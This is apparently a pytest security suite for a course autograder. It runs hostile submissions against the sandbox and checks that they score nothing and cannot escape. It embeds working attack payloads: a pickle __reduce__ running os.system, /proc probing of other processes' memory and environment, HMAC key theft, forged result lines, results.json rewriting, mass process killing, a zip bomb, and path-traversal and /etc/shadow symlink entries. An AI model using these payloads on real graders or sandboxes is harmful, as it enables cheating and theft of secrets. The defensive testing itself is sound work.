"""The grader's promises against a hostile submission, one test each (issue 6).

Every attack is what a student who reads Otter's and our source could try. It
is graded through the real autograder zip with ``otter run`` (``otter_run``,
as ``genai-hw grade`` does), on top of the untouched stubs, and must earn no
more than the stubs (0), with results written. Where an attack needs the
grader to be root (student code as its own users), the test is skipped
elsewhere.

Markers that a payload would create if it ran in the grader live in the
test's own ``tmp_path`` (under a folder only root may enter), so student code
cannot create them itself; reports that student code writes for the test go
to a world-writable folder the test makes.
"""

from __future__ import annotations

import json
import os
import pickle
import secrets
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import nbformat
import pytest

from autograder.build.release import make_submission, otter_run, score_of
from autograder.grading import sandbox
from conftest import HW01, ROOT, STUBS, shipped, tcp_server

pytestmark = pytest.mark.slow
root_only = pytest.mark.skipif(not sandbox.isolating(), reason="student users need a root grader")
POOL = set(range(sandbox.UID_BASE, sandbox.UID_BASE + 2 * sandbox.SLOTS))


class _Payload:
    """Unpickling this runs ``touch marker``: in the grader it would run as root."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def payload(marker: Path) -> bytes:
    return pickle.dumps(_Payload(marker))


def gradescope_layout(released: dict, tmp: Path) -> tuple[Path, str]:
    """Gradescope's /autograder folder (source from the zip, empty submission and results) under ``tmp``, and a
    script that runs the zip's entry point on it."""
    ag = tmp / "autograder"
    for sub in ("source", "submission", "results"):
        (ag / sub).mkdir(parents=True)
    zipfile.ZipFile(released["zip"]).extractall(ag / "source")
    (ag / "submission_metadata.json").write_text("{}")
    script = (f"import sys; sys.path.insert(0, {str(ag / 'source')!r})\n"
              f"from autograder.grading.gradescope import main; main({str(ag)!r})")
    return ag, script


def findings(report_dir: Path, name: str) -> dict:
    path = report_dir / f"{name}.json"
    assert path.is_file(), f"the attack did not run: {path} missing"
    return json.loads(path.read_text())


def submission(released: dict, tmp: Path, cells: tuple[str, ...] = (), package: Path | None = None,
               append: dict[str, str] | None = None, extra: dict[str, bytes] | None = None,
               notebook: Path | None = None) -> Path:
    """The student release's notebook (plus ``cells`` at the top) and ``package`` (default: homework 1's
    stubs; plus code appended to its modules), zipped as the export cell does, plus ``extra`` files at the
    zip's root."""
    package = package or shipped(HW01, STUBS)
    nb = nbformat.read(notebook or released["notebook"], as_version=4)
    for position, source in enumerate(cells, start=1):
        nb.cells.insert(position, nbformat.v4.new_code_cell(source))
    folder = tmp / f"sub_{secrets.token_hex(3)}"
    folder.mkdir()
    nbformat.write(nb, folder / released["notebook"].name)
    shutil.copytree(package, folder / "genai_hw", ignore=shutil.ignore_patterns("__pycache__"))
    for module, code in (append or {}).items():
        path = folder / "genai_hw" / f"{module}.py"
        path.write_text(path.read_text() + "\n" + code + "\n")
    zip_path = make_submission(folder / released["notebook"].name, folder / "genai_hw", folder / "upload.zip")
    with zipfile.ZipFile(zip_path, "a") as zf:
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return zip_path


def per_question(results: dict) -> dict[str, tuple[float, float]]:
    return {t["name"]: (t["score"], t["max_score"]) for t in results["tests"] if "max_score" in t}


def student_processes() -> list[int]:
    return sandbox.processes_of(uids=POOL)


def assert_like_stubs(results: dict) -> None:
    assert "error" not in results, results.get("error")
    score, possible = score_of(results)
    assert possible == 20 and score == 0, per_question(results)


# 1. Nothing from the submission is unpickled in the grader ------------------------------------------

def test_otter_log_in_the_upload_is_never_unpickled(released, tmp_path):
    marker = tmp_path / "pwned_by_otter_log"
    upload = submission(released, tmp_path, extra={".OTTER_LOG": payload(marker),
                                                    "genai_hw/.OTTER_LOG": payload(marker)})
    results = otter_run(released["zip"], upload, tmp_path / "out")
    assert not marker.exists(), "Otter's process unpickled the submission's .OTTER_LOG"
    assert_like_stubs(results)
    # The attack has teeth: loading that file as Otter 7.0.0 does runs the payload.
    teeth = tmp_path / "teeth"
    (tmp_path / "log").write_bytes(payload(teeth))
    subprocess.run([sys.executable, "-c", f"import dill; dill.load(open({str(tmp_path / 'log')!r}, 'rb'))"],
                   check=False, capture_output=True)
    assert teeth.exists()


LOG_SERVER_ATTACK = '''
import logging, socket, struct
payload = {payload!r}
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in open(table).read().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A":  # listening
            ports.add(int(fields[1].rsplit(":", 1)[1], 16))
for logger in [logging.getLogger(), *logging.Logger.manager.loggerDict.values()]:
    for handler in getattr(logger, "handlers", []):
        if getattr(handler, "port", None):
            ports.add(handler.port)
for port in ports:
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=1)
        s.sendall(struct.pack(">L", len(payload)) + payload)
        s.close()
    except Exception:
        pass
'''


def test_otter_log_server_never_unpickles(released, tmp_path):
    marker = tmp_path / "pwned_by_log_server"
    upload = submission(released, tmp_path, cells=(LOG_SERVER_ATTACK.format(payload=payload(marker)),))
    results = otter_run(released["zip"], upload, tmp_path / "out")
    time.sleep(0.5)
    assert not marker.exists(), "Otter's log server unpickled what the notebook sent"
    assert_like_stubs(results)
    # Teeth: against Otter's own log server, the same cell runs its payload in the server's process.
    teeth = tmp_path / "teeth"
    script = ("import time\nfrom otter.execute.logging import start_server\n(host, port), stop = start_server()\n"
              + LOG_SERVER_ATTACK.format(payload=payload(teeth)) + "\ntime.sleep(1)\nstop()\n")
    subprocess.run([sys.executable, "-c", script], check=False, capture_output=True, timeout=60)
    assert teeth.exists()


# 2. Student code cannot reach the grader: its processes, files, results ------------------------------

PROBE = '''
import glob, json, os, signal, zipfile
found = {{"uid": os.getuid(), "read": [], "denied": [], "signalled": [], "zips_seen": [],
         "no_new_privs": [l.split()[1] for l in open("/proc/self/status") if l.startswith("NoNewPrivs")]}}
paths = set(glob.glob("/tmp/*/autograder/source/**/*", recursive=True))
paths |= set(glob.glob("/tmp/genai-hw-run-*/**/*", recursive=True))
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        args = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
    except OSError:
        continue
    for arg in args:
        text = arg.decode(errors="replace")
        if text.startswith("/"):
            paths.add(text)
            if text.endswith(".zip"):
                found["zips_seen"].append(text)
    for entry in ("environ", "mem", "cwd", "fd", "root"):
        try:
            target = f"/proc/{{pid}}/{{entry}}"
            os.listdir(target) if entry == "fd" else (os.readlink(target) if entry in ("cwd", "root")
                                                        else open(target, "rb").read(1))
            if int(pid) == os.getppid():
                found["read"].append(target)
        except OSError:
            pass
# The course checkout, from the interpreter's path, PATH and an editable install's finder.
import re, sys
roots = {{os.path.dirname(sys.executable)}} | set(os.environ.get("PATH", "").split(":"))
for folder in sys.path:
    for finder in glob.glob(os.path.join(folder, "__editable__*finder.py")):
        try:
            roots |= set(re.findall(r"'(/[^']+)'", open(finder).read()))
        except OSError:
            pass
for start in roots:
    for up in [start, *[start.rsplit("/", n)[0] for n in range(1, start.count("/"))]]:
        paths.add(up + "/solutions/genai_hw/ngrams.py")
        paths.add(up + "/assignments/hw01_ngrams/hidden_cases.py")
for path in sorted(paths):
    if "genai_hw_grading" in path or path.endswith(("hidden_cases.py", "-autograder.zip", "autograder.zip")) \\
            or "/reference/" in path or "/solutions/genai_hw/" in path:
        try:
            if path.endswith(".zip"):
                with zipfile.ZipFile(path) as zf:
                    zf.read("genai_hw_grading/hidden_cases.py")
            else:
                open(path, "rb").read(1)
            found["read"].append(path)
        except FileNotFoundError:
            pass
        except (OSError, KeyError, zipfile.BadZipFile):
            found["denied"].append(path)
for sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(os.getppid(), sig)
        found["signalled"].append(sig)
    except OSError:
        pass
open({report!r}, "w").write(json.dumps(found))
'''


@root_only
def test_student_code_cannot_read_or_signal_the_grader(released, tmp_path, report_dir):
    """The runner (at import) and the kernel (in a cell) look for the reference, the hidden cases and the
    autograder zip everywhere /proc points, read the grader's /proc entries and signal it: all denied."""
    upload = submission(released, tmp_path,
                        cells=(PROBE.format(report=str(report_dir / "kernel.json")),),
                        append={"__init__": PROBE.format(report=str(report_dir / "runner.json"))})
    start = time.monotonic()
    results = otter_run(released["zip"], upload, tmp_path / "out")
    assert time.monotonic() - start < 120
    assert_like_stubs(results)
    for side in ("runner", "kernel"):
        seen = findings(report_dir, side)
        assert seen["uid"] in POOL, f"the {side} ran as uid {seen['uid']}"
        assert seen["no_new_privs"] == ["1"], "a setuid program could give student code root again"
        assert seen["read"] == [] and seen["signalled"] == [], (side, seen)
        assert seen["zips_seen"], f"the {side} did not even see the autograder zip's path"  # the attack had a target
        assert any("/solutions/genai_hw/" in path for path in seen["denied"]), "the checkout was not found"


LAUNCH_PROBE = '''
import json as _json, os as _os, resource as _resource, sys as _sys
_status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
_fds = {{}}
for _fd in _os.listdir("/proc/self/fd"):
    try:
        _fds[_fd] = _os.readlink(f"/proc/self/fd/{{_fd}}")
    except FileNotFoundError:  # the listing's own descriptor, closed since
        pass
    except OSError as _err:
        _fds[_fd] = type(_err).__name__
_umask = _os.umask(0o077)
_report = {{"cmdline": open("/proc/self/cmdline", "rb").read().decode("utf-8", "replace"),
            "uid": _os.getresuid(), "gid": _os.getresgid(), "groups": _os.getgroups(),
            "no_new_privs": _status["NoNewPrivs"].strip(), "seccomp": _status["Seccomp"].strip(),
            "capabilities": [_status[k].strip() for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")
                             if k in _status and k != "CapBnd"],
            "oom_score_adj": open("/proc/self/oom_score_adj").read().strip(),
            "limits": [_resource.getrlimit(getattr(_resource, n)) for n in ("RLIMIT_NPROC", "RLIMIT_FSIZE",
                                                                           "RLIMIT_CORE")],
            "umask": _umask, "session_leader": _os.getsid(0) == _os.getpid(),
            "fds": sorted(t for t in _fds.values() if not t.startswith("/proc/")),
            "home_is_cwd_parent": _os.path.dirname(_os.getcwd()) == _os.path.dirname(_os.environ["HOME"]),
            "env": sorted(_os.environ), "hash": hash("genai-hw"), "path_has_cwd": "" in _sys.path,
            "bytecode": _sys.flags.dont_write_bytecode}}
open({report!r}, "w").write(_json.dumps(_report))
'''


@root_only
def test_forked_student_processes_start_confined_as_execd_ones(released, tmp_path, report_dir, monkeypatch):
    """The runner and the kernel forked by the grading's zygote (autograder/grading/zygote.py) start exactly as
    confined as exec'd ones: the role's user and no group, no new privileges, the seccomp filter, no
    capability, OOM score 1000, the same limits and umask, a session of their own, the role's environment,
    no descriptor of the zygote's (the runner holds only its pipes and /dev/null), and for the kernel the
    hash seed and path of ``python -m ipykernel_launcher``. And the zygote is what started them."""
    reports = {}
    for zygote in ("1", "0"):
        monkeypatch.setenv("GENAI_HW_ZYGOTE", zygote)
        upload = submission(released, tmp_path,
                            cells=(LAUNCH_PROBE.format(report=str(report_dir / f"kernel-{zygote}.json")),),
                            append={"__init__": LAUNCH_PROBE.format(
                                report=str(report_dir / f"runner-{zygote}.json"))})
        assert_like_stubs(otter_run(released["zip"], upload, tmp_path / f"out-{zygote}"))
        reports[zygote] = {side: findings(report_dir, f"{side}-{zygote}") for side in ("runner", "kernel")}
    for side in ("runner", "kernel"):
        forked, execd = reports["1"][side], reports["0"][side]
        assert "genai_hw_zygote" in forked.pop("cmdline"), f"the {side} was not forked by the zygote"
        assert "genai_hw_zygote" not in execd.pop("cmdline")
        assert forked["uid"][0] in POOL and len(set(forked["uid"])) == 1, forked["uid"]
        assert forked["groups"] == [] and forked["no_new_privs"] == "1" and forked["seccomp"] == "2", forked
        assert set(forked["capabilities"]) == {"0000000000000000"}, forked["capabilities"]
        assert forked["oom_score_adj"] == "1000" and forked["umask"] == 0o077 and forked["session_leader"]
        for report in (forked, execd):  # slot and user differ from one grading to the next
            report.pop("uid"), report.pop("gid")
        if side == "runner":
            assert set(forked["fds"]) <= {"/dev/null"} | {f for f in forked["fds"] if f.startswith("pipe:")}
            forked.pop("fds"), execd.pop("fds")
            # a forked runner keeps the zygote's interpreter: hash seed 0 and bytecode kept out, as the kernel's
            forked.pop("hash"), execd.pop("hash"), forked.pop("bytecode"), execd.pop("bytecode")
        else:
            forked.pop("fds"), execd.pop("fds")  # the kernel's own sockets, made after the zygote's were closed
        # Jupyter tells an exec'd kernel the grader's pid (JPY_PARENT_PID), to end itself if the grader goes;
        # a forked one is the zygote's child (the sandbox ends it either way).
        forked_env, execd_env = set(forked.pop("env")), set(execd.pop("env"))
        assert forked_env <= execd_env and execd_env - forked_env <= {"JPY_PARENT_PID"}, side
        assert forked == execd, side


SNAPSHOT_ATTACK = '''
import glob, json, os
written = []
targets = [root + "/pkg/genai_hw/" + name for root in glob.glob("/tmp/genai-hw-sandbox-*")
           for name in ("__init__.py", "ngrams.py")]  # the snapshot's folder cannot even be listed
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("\\n# tampered\\n")
        written.append(path)
    except OSError:
        pass
open({report!r}, "w").write(json.dumps({{"targets": targets, "written": written}}))
'''


@root_only
def test_the_graded_snapshot_cannot_be_changed(released, tmp_path, report_dir):
    """A notebook that rewrites the runner's copy of the package (which every restarted runner imports
    again; a crashing case forces a restart here) changes nothing."""
    upload = submission(released, tmp_path, cells=(SNAPSHOT_ATTACK.format(report=str(report_dir / "nb.json")),),
                        append={"ngrams": "def normalize(text):\n    import os\n    os._exit(3)\n"})
    results = otter_run(released["zip"], upload, tmp_path / "out")
    assert_like_stubs(results)
    seen = findings(report_dir, "nb")
    assert seen["targets"] and seen["written"] == [], seen
    q2 = next(t for t in results["tests"] if t["name"] == "q2")
    assert "ended during this case" in q2["output"]


FORGE_KEY = '''
import json, sys, traceback
try:
    frame, key = sys._getframe(), None
    while frame is not None and key is None:
        for value in list(frame.f_locals.values()):
            for cell in getattr(value, "__closure__", None) or ():
                try:
                    if isinstance(cell.cell_contents, bytes) and len(cell.cell_contents) == 32:
                        key = cell.cell_contents
                except ValueError:
                    pass
        frame = frame.f_back
    found = {{"key": key.hex() if key else None}}
except BaseException:
    found = {{"key": None, "error": traceback.format_exc()}}
open({report!r}, "w").write(json.dumps(found))
import os
os.chmod({report!r}, 0o644)  # for the notebook, which runs as another user
'''

FORGE_LINES = '''
import hashlib, hmac, json, os, time
for _ in range(50):
    if os.path.exists({report!r}):
        break
    time.sleep(0.1)
key = bytes.fromhex(json.load(open({report!r}))["key"])
opened = []
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        fds = os.listdir(f"/proc/{{pid}}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            if not os.readlink(f"/proc/{{pid}}/fd/{{fd}}").startswith("pipe:"):
                continue
            with open(f"/proc/{{pid}}/fd/{{fd}}", "w") as pipe:
                for case in range(40):
                    record = json.dumps({{"event": "done", "case": case, "calls": [
                        {{"status": "raised", "types": ["ValueError", "Exception"], "message": ""}}] * 40}},
                        separators=(",", ":"))
                    pipe.write(record + "\\t" + hmac.new(key, record.encode(), hashlib.sha256).hexdigest() + "\\n")
            opened.append(f"{{pid}}/{{fd}}")
        except OSError:
            pass
open({out!r}, "w").write(json.dumps({{"opened": opened}}))
'''


REFERENCE_ATTACK = """
import glob as _glob, json as _json, os as _os, signal as _signal, time as _time
_found = {"processes": [], "folders": [], "files": [], "read": [], "signalled": []}
_deadline = _time.monotonic() + 3
while not _found["processes"] and _time.monotonic() < _deadline:
    for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
        try:
            _args = open(f"/proc/{_pid}/cmdline", "rb").read().decode().split("\\0")
        except OSError:
            continue
        if any("/reference-" in a for a in _args):  # an exec'd reference names its folder
            _found["processes"].append(_pid)
            _found["folders"] += [a for a in _args if "/reference-" in a and not a.endswith(".py")]
        elif _pid != str(_os.getpid()) and any("genai_hw_zygote" in a for a in _args):
            # a forked one shows the zygote's command line: the grader's other processes of this grading
            _found["processes"].append(_pid)
    _time.sleep(0.05)
# Forked by the zygote, this process began as a copy of its memory, which had the reference's launch (its
# folder): read it where it lies (this process's own writable memory).
import re as _re
for _line in open("/proc/self/maps").read().splitlines():
    _fields = _line.split()
    if _fields[1].startswith("rw") and (len(_fields) < 6 or _fields[5] == "[heap]"):
        _start, _end = (int(x, 16) for x in _fields[0].split("-"))
        _chunk = __import__("ctypes").string_at(_start, min(_end - _start, 64 << 20))
        _names = _re.findall(rb"/[\\w/.-]*genai-hw-sandbox-[\\w-]+/reference-[0-9a-f]{8}", _chunk)
        _found["folders"] += sorted({m.decode() for m in _names})
_found["folders"] = sorted(set(_found["folders"]))
_found["folders"] += _glob.glob("/tmp/genai-hw-sandbox-*/reference-*")  # finds nothing: the sandbox is 0711
_found["files"] = [f"{f}/genai_hw/ngrams.py" for f in _found["folders"]]
_found["files"] += [f"/proc/{p}/{e}" for p in _found["processes"] for e in ("environ", "mem", "cwd/genai_hw/ngrams.py")]
for _path in _found["folders"] + [f"/proc/{p}/fd" for p in _found["processes"]]:
    try:
        _os.listdir(_path)
        _found["read"].append(_path)
    except OSError:
        pass
for _path in _found["files"]:
    try:
        open(_path, "rb").read(1)
        _found["read"].append(_path)
    except OSError:
        pass
for _pid in _found["processes"]:
    try:
        _os.kill(int(_pid), _signal.SIGSTOP)
        _found["signalled"].append(_pid)
    except OSError:
        pass
open(REPORT, "w").write(_json.dumps(_found))
"""


@root_only
def test_student_code_cannot_reach_the_reference_process(tmp_path, report_dir):
    """The reference runs in a process of its own beside the student's runner: student code (here at import,
    in the runner) that finds its folder and process, lists and reads them and stops the process is denied
    everything, and the reference's outcomes still arrive. The reference takes 3 s to import here, so it is
    there to be attacked; its folder is gone after the grading."""
    from autograder.grading.harness import grade_cases, load_cases
    from conftest import plant

    slow = "import time\ntime.sleep(3)\n__version__"
    reference = plant(tmp_path / "reference", {"__init__": [("__version__", slow)]}, source=shipped(HW01))
    attack = REFERENCE_ATTACK.replace("REPORT", repr(str(report_dir / "reference.json")))
    student = plant(tmp_path / "student", {"ngrams": [("    words = list(words)", "    words = list(words)")]},
                    source=shipped(HW01))
    (student / "ngrams.py").write_text((student / "ngrams.py").read_text() + attack)
    cases = [c for c in load_cases(ROOT / "assignments" / HW01 / "hidden_cases.py") if c.question in ("q3", "q4")]
    results = grade_cases(cases, student, reference, 3)
    seen = findings(report_dir, "reference")
    # The attack had its targets: the reference's process (exec'd: its folder named on its command line;
    # forked by the zygote: the folder only through /proc/PID/cwd, and in the zygote's memory, where this
    # process finds it only if the student's launch did not reuse that memory, as it usually does).
    assert seen["processes"] and len(seen["files"]) >= 3, seen
    assert seen["read"] == [] and seen["signalled"] == [], seen
    assert [r.message for r in results if not r.passed] == []  # the reference answered, the student's code too
    assert not list(Path("/tmp").glob("genai-hw-sandbox-*/reference-*")), "the reference's folder outlived it"


@root_only
def test_the_runner_key_gains_the_notebook_nothing(released, tmp_path, report_dir):
    """Package code finds the runner's HMAC key on its stack (it shares that process) and hands it to the
    notebook, which writes signed lines claiming "raised ValueError" (the right outcome of the edge cases)
    into every pipe it can open: it cannot open the runner's, so nothing is gained."""
    key_file, out = report_dir / "key.json", report_dir / "forged.json"
    upload = submission(released, tmp_path, cells=(FORGE_LINES.format(report=str(key_file), out=str(out)),),
                        append={"__init__": FORGE_KEY.format(report=str(key_file))})
    results = otter_run(released["zip"], upload, tmp_path / "out")
    assert_like_stubs(results)
    assert findings(report_dir, "key")["key"], findings(report_dir, "key")
    assert json.loads(out.read_text())["opened"] == []


DETACH = '''
import subprocess, sys
CHILD = """
import glob, json, os, time
end = time.time() + 90
while time.time() < end:
    for path in glob.glob("/tmp/**/results.json", recursive=True):
        try:
            data = json.load(open(path))
            for test in data.get("tests", []):
                test["score"] = test.get("max_score", 0)
            data["score"] = 20
            open(path, "w").write(json.dumps(data))
        except Exception:
            pass
    time.sleep(0.05)
"""
subprocess.Popen([sys.executable, "-c", CHILD], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''


@root_only
def test_no_student_process_outlives_grading_or_changes_results(released, tmp_path):
    """Detached (setsid) children of the package and of the notebook that rewrite every results.json they
    find: they cannot write the grader's, and none is running after grading (genai-hw grade's CSV too)."""
    from autograder.build.grade import grade

    subs = tmp_path / "subs"
    subs.mkdir()
    shutil.copy(submission(released, tmp_path, cells=(DETACH,), append={"__init__": DETACH}), subs / "mallory.zip")
    rows = grade(released["zip"], [subs], tmp_path / "grades", log=lambda *_: None)
    assert rows[0]["score"] == 0 and not rows[0]["error"], rows
    assert student_processes() == []
    time.sleep(1)
    results = json.loads(next((tmp_path / "grades").glob("*/results.json")).read_text())
    assert score_of(results) == (0.0, 20.0)
    leftovers = [p for root in sandbox.TEMP_ROOTS for p in Path(root).glob("*")
                 if p.lstat().st_uid in POOL]
    assert leftovers == []


KILLER = '''
import os, signal
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
'''


@root_only
def test_grading_finishes_when_student_code_signals_everything(released, tmp_path):
    upload = submission(released, tmp_path, cells=(KILLER,), append={"__init__": KILLER})
    start = time.monotonic()
    results = otter_run(released["zip"], upload, tmp_path / "out")
    assert time.monotonic() - start < 120
    assert_like_stubs(results)


# 3. Grading always finishes, and costs a hostile notebook only its own questions ---------------------

HANGS = {
    "swallows_interrupts": "import time\nwhile True:\n    try:\n        time.sleep(1)\n    except BaseException:\n"
                           "        pass",
    "breaks_isinstance": "import builtins\nbuiltins.isinstance = lambda obj, cls: True\n",
}


@root_only
@pytest.mark.parametrize("how", sorted(HANGS))
def test_a_hanging_notebook_costs_only_the_notebook_questions(released, solution_notebook, tmp_path, monkeypatch,
                                                              how):
    monkeypatch.setenv("GENAI_HW_CELL_TIMEOUT", "3")
    monkeypatch.setenv("GENAI_HW_NOTEBOOK_LIMIT", "12")
    upload = submission(released, tmp_path, cells=(HANGS[how],), package=shipped(HW01), notebook=solution_notebook)
    start = time.monotonic()
    results = otter_run(released["zip"], upload, tmp_path / "out")
    took = time.monotonic() - start
    assert took < 60, f"grading took {took:.0f} s"
    scores = per_question(results)
    assert all(scores[q] == (scores[q][1], scores[q][1]) for q in scores if q != "q9"), scores
    if how == "swallows_interrupts":
        assert scores["q9"][0] == 0 and "12 s" in results["output"]
    assert student_processes() == []


# 4. Cleanup, also after an interrupted grading --------------------------------------------------------

SLOW_CELL = "import time\ntime.sleep(60)"
SLEEPER = ("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)'], "
           "start_new_session=True)\n")


@root_only
@pytest.mark.parametrize("how", ["SIGTERM", "SIGKILL"])
def test_an_interrupted_grading_leaves_no_process_or_file(released, tmp_path, how):
    """otter run stopped mid-grading: SIGTERM cleans up at once; after SIGKILL, the next grading (or
    genai-hw grade, through reap_abandoned) kills what was left and removes its folders."""
    upload = submission(released, tmp_path, cells=(SLEEPER + SLOW_CELL,), append={"__init__": SLEEPER})
    private = tmp_path / "tmp"
    private.mkdir()
    (tmp_path / "out").mkdir()
    shutil.copy(released["zip"], private / "ag.zip")
    proc = subprocess.Popen([sys.executable, "-m", "otter", "run", "-a", str(private / "ag.zip"), "-o",
                             str(tmp_path / "out"), str(upload)], env=dict(os.environ, TMPDIR=str(private)),
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(student_processes()) < 2:  # the kernel and its sleeper
        time.sleep(0.2)
    assert len(student_processes()) >= 2, "the grading never started its student processes"
    proc.send_signal(getattr(signal, how))
    proc.wait(timeout=60)
    if how == "SIGKILL":
        assert student_processes(), "SIGKILL should have left the sandbox behind"
        assert len(list(private.iterdir())) > 1, "SIGKILL should have left Otter's folder behind"
        sandbox.reap_abandoned()
    time.sleep(0.2)
    assert student_processes() == []
    assert list(Path("/tmp").glob("genai-hw-sandbox-*")) == []
    assert [p.name for p in private.iterdir()] == ["ag.zip"], "Otter's temporary folder was left behind"


# 5. The grader runs the code it was given -------------------------------------------------------------

def test_grading_uses_the_code_in_the_autograder_zip(released, tmp_path):
    """Even with this project installed (editable, in the tests), otter run grades with the zip's plugin."""
    patched = tmp_path / "patched.zip"
    with zipfile.ZipFile(released["zip"]) as src, zipfile.ZipFile(patched, "w") as out:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "autograder/grading/harness.py":
                data = data.replace(b"Your upload has no genai_hw/ folder", b"ZIP-CODE: no genai_hw/ folder")
            out.writestr(item, data)
    notebook = shutil.copy(released["notebook"], tmp_path / released["notebook"].name)
    results = otter_run(patched, Path(notebook), tmp_path / "out")
    assert "ZIP-CODE: no genai_hw/ folder" in results["output"]


def test_the_autograder_zip_is_private_and_carries_only_grading_code(released, tmp_path):
    assert released["zip"].stat().st_mode & 0o777 == 0o600
    with zipfile.ZipFile(released["zip"]) as zf:
        names = zf.namelist()
        setup, run_otter = zf.read("setup.sh").decode(), zf.read("run_otter.py").decode()
        zf.extractall(tmp_path / "source")
    assert "autograder/build/release.py" not in names and "autograder/build/cli.py" not in names
    assert "autograder/grading/sandbox.py" in names and "autograder/grading/gradescope.py" in names
    assert "from autograder.grading.gradescope import main" in run_otter
    # setup.sh lets the sandbox users run Miniforge's Python and proves the sandbox works at image build
    # time; its check, run here with this Python, passes.
    assert "chmod o+x /root" in setup
    check = setup.split("mamba run -n otter-env python -c ", 1)[1].strip().strip('"').replace("\\\n", "")
    check = check.replace("/autograder/source", str(tmp_path / "source"))
    if sandbox.isolating():
        proc = subprocess.run([sys.executable, "-c", check], capture_output=True, text=True, timeout=120)
        assert "genai-hw sandbox: ok" in proc.stdout, proc.stderr


# 6. Malformed uploads: a results.json with a clear message, never a crash ----------------------------

def _zip(path: Path, entries: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return path


def _package_entries(package: Path, skip: str = "", replace: dict[str, bytes] | None = None) -> dict[str, bytes]:
    entries = {f"genai_hw/{p.relative_to(package).as_posix()}": p.read_bytes() for p in package.rglob("*")
               if p.is_file() and "__pycache__" not in p.parts and p.name != skip}
    entries.update(replace or {})
    return entries


def test_upload_without_a_notebook(released, tmp_path):
    results = otter_run(released["zip"], _zip(tmp_path / "s.zip", _package_entries(shipped(HW01))), tmp_path / "o")
    assert score_of(results) == (0.0, 20.0)
    assert "exactly one .ipynb notebook" in results["output"]


def test_notebook_that_is_not_json(released, tmp_path):
    upload = _zip(tmp_path / "s.zip", {"hw01_ngrams.ipynb": b"{ this is not json", **_package_entries(shipped(HW01))})
    results = otter_run(released["zip"], upload, tmp_path / "o")
    assert score_of(results) == (0.0, 20.0)
    assert "not a valid .ipynb file" in results["output"]


def test_empty_zip_and_not_a_zip(released, tmp_path):
    for name, data in [("empty.zip", None), ("junk.zip", b"PK\x03\x04 not really")]:
        path = tmp_path / name
        if data is None:
            zipfile.ZipFile(path, "w").close()
        else:
            path.write_bytes(data)
        results = otter_run(released["zip"], path, tmp_path / f"out_{path.stem}")
        assert score_of(results) == (0.0, 20.0), name
        assert "Upload the zip" in results["output"], name


def test_zip_bomb_is_refused_before_unpacking(released, tmp_path):
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("hw01_ngrams.ipynb", "w",
                                                                        force_zip64=True) as f:
        chunk = b"\0" * 2**20
        for _ in range(400):
            f.write(chunk)
    assert path.stat().st_size < 2 * 2**20
    results = otter_run(released["zip"], path, tmp_path / "o")
    assert score_of(results) == (0.0, 20.0)
    assert "over the limit" in results["output"]


def test_partial_package_and_syntax_error_cost_only_their_questions(released, solution_notebook, tmp_path):
    """No training.py, and a syntax error in tokenizer.py (no hw01 question): every ngrams question full."""
    notebook = {"hw01_ngrams.ipynb": solution_notebook.read_bytes()}
    entries = _package_entries(shipped(HW01), skip="training.py",
                               replace={"genai_hw/tokenizer.py": b"def broken(:\n"})
    results = otter_run(released["zip"], _zip(tmp_path / "s.zip", {**notebook, **entries}), tmp_path / "o")
    scores = per_question(results)
    assert scores["q1"][0] == 0 and "could not import genai_hw.training" in next(
        t["output"] for t in results["tests"] if t["name"] == "q1")
    assert all(scores[q][0] == scores[q][1] for q in ("q2", "q3", "q4", "q5", "q6", "q7", "q8")), scores


def test_traversal_and_symlink_entries_stay_inside(released, solution_notebook, tmp_path):
    """``../`` and absolute names land inside the submission folder; a symlink entry is a plain file."""
    link = zipfile.ZipInfo("genai_hw/ngrams.py")
    link.external_attr = (0o120777 << 16)
    entries = {"hw01_ngrams.ipynb": solution_notebook.read_bytes(), **_package_entries(shipped(HW01), skip="ngrams.py"),
               "../../escaped_genai_hw.py": b"x = 1", "/tmp/escaped_genai_hw_abs.py": b"x = 1"}
    upload = _zip(tmp_path / "s.zip", entries)
    with zipfile.ZipFile(upload, "a") as zf:
        zf.writestr(link, "/etc/shadow")
    results = otter_run(released["zip"], upload, tmp_path / "o")
    assert not Path("/tmp/escaped_genai_hw_abs.py").exists()
    assert not list(tmp_path.parent.rglob("escaped_genai_hw.py"))
    scores = per_question(results)
    assert scores["q1"] == (2, 2) and scores["q2"][0] == 0, scores
    assert "root:" not in json.dumps(results)


def test_the_gradescope_entry_point_always_writes_results(released, tmp_path):
    """The zip's run_otter.py (autograder.grading.gradescope.main) on a notebook that is not JSON."""
    ag, script = gradescope_layout(released, tmp_path)
    (ag / "submission" / "hw01_ngrams.ipynb").write_text("not json")
    subprocess.run([sys.executable, "-c", script], capture_output=True, cwd=tmp_path, timeout=120)
    results = json.loads((ag / "results" / "results.json").read_text())
